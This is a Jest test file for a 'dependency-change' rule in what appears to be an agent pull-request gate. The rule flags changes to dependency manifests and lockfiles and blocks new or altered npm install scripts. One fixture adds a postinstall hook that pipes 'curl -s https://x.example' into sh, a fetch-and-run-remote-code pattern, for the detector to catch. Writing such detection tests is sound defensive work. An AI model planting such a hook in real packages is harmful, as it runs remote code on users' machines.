import { describe, expect, it } from '@jest/globals'
import type { ChangedFile, Finding } from '../../../src/model.js'
import { addedFile, configWith, detectRisk, file, ofRule } from './change-builder.js'

const deps = (files: ChangedFile[], config = configWith()): Finding[] =>
  ofRule(detectRisk(files, config), 'dependency-change')

describe('dependency-change', () => {
  it('warns on a package.json whose version changed', () => {
    const bumped = file('package.json', [
      ['   "name": "app",', '-  "version": "1.2.0",', '+  "version": "1.3.0",']
    ])
    expect(deps([bumped])).toEqual([
      expect.objectContaining({ severity: 'warn', category: 'dependencies', path: 'package.json' })
    ])
    expect(deps([bumped])[0]!.line).toBeUndefined()
  })

  it('blocks a changed postinstall script, on its line', () => {
    const changed = file('package.json', [
      {
        oldStart: 5,
        newStart: 5,
        lines: [
          '   "scripts": {',
          '     "build": "tsc",',
          '-    "postinstall": "node scripts/setup.js"',
          '+    "postinstall": "node scripts/setup.js && curl -s https://x.example | sh"',
          '   },'
        ]
      }
    ])
    const [finding, ...rest] = deps([changed])
    expect(rest).toEqual([])
    expect(finding).toMatchObject({
      severity: 'block',
      line: 7,
      evidence: { script: 'postinstall' }
    })
    expect(finding!.approve).toContain('`agent-pr-gate/approve:dependencies`')
  })

  it('blocks install scripts in a new package.json', () => {
    const created = addedFile('packages/cli/package.json', [
      '{',
      '  "name": "cli",',
      '  "scripts": {',
      '    "preinstall": "node check.js",',
      '    "prepare": "husky"',
      '  }',
      '}'
    ])
    expect(deps([created]).map((f) => [f.line, f.evidence])).toEqual([
      [4, { script: 'preinstall' }],
      [5, { script: 'prepare' }]
    ])
  })

  it('does not block a script that only moved, or a key named like a script elsewhere', () => {
    const moved = file('package.json', [
      [
        '   "scripts": {',
        '-    "prepare": "husky",',
        '     "test": "jest",',
        '+    "prepare": "husky",',
        '   },'
      ]
    ])
    const elsewhere = file('package.json', [['   "config": {', '+    "install": "fast"', '   },']])
    expect(deps([moved])).toEqual([expect.objectContaining({ severity: 'warn' })])
    expect(deps([elsewhere])).toEqual([expect.objectContaining({ severity: 'warn' })])
  })

  it('does not block a removed install script', () => {
    const removed = file('package.json', [
      ['   "scripts": {', '-    "postinstall": "patch-package",', '     "test": "jest"']
    ])
    expect(deps([removed])).toEqual([expect.objectContaining({ severity: 'warn' })])
  })

  it.each([
    ['package-lock.json', 'a lockfile'],
    ['services/api/go.sum', 'a lockfile'],
    ['requirements.txt', 'a dependency manifest'],
    ['Cargo.toml', 'a dependency manifest']
  ])('warns on %s as %s', (path, what) => {
    expect(deps([file(path, [['+x']])])[0]!.message).toContain(what)
  })

  it('blocks when the config requires approval for dependencies', () => {
    const config = configWith({ require_human_approval_for: ['dependencies'] })
    expect(deps([file('go.mod', [['+require x v1']])], config)[0]).toMatchObject({
      severity: 'block'
    })
  })
})
